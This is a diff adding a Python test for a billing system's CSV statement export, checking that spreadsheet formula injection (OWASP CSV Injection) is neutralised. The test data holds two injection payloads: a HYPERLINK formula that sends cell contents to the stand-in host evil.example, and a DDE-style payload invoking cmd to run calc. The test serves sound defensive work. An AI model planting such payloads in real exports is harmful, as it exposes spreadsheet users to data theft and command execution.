@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 import shutil
@@ -17,6 +18,7 @@ from pypdf import PdfReader
 from secondline.accounts.access import AccessDenied
 from secondline.billing import export, out_of_hours, statements, worklogs
 from secondline.billing.models import BillingTerms, PrepaidPackage, Statement
+from secondline.common import spreadsheet
 from secondline.tickets.models import TicketEvent
 from tests.billing.conftest import msk
 from tests.factories import consultation_draft, file_ticket
@@ -250,3 +252,21 @@ def test_the_pdf_renders_in_english_and_russian(
             check=True,
         )
         assert list(tmp_path.glob("page*.png"))
+
+
+def test_the_csv_writes_a_formula_in_a_subject_or_description_as_text(
+    personas: Any, log: Any, manager: Any
+) -> None:
+    """A customer's ticket subject and an agent's description reach the manager's spreadsheet:
+    a cell starting with =, +, -, @ must not run (OWASP CSV Injection)."""
+    subject = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    ticket = file_ticket(personas.member, consultation_draft(subject=subject))
+    log(ticket, msk(2024, 11, 6, 11), msk(2024, 11, 6, 12), description="@SUM(1+1)*cmd|'/C calc'")
+    statement = statements.generate_statement(personas.contract, NOVEMBER, manager)
+    rows = list(csv.reader(io.StringIO(export.statement_csv(statement, "en").lstrip("\ufeff"))))
+    line = rows[1]
+    assert line[2] == "'" + subject
+    assert line[5] == "'@SUM(1+1)*cmd|'/C calc'"
+    assert line[6] == "1.00" and line[13] == "4000.00"  # numbers stay numbers
+    flagged = [c for row in rows for c in row if c[:1] in spreadsheet.FORMULA_STARTS]
+    assert flagged == []
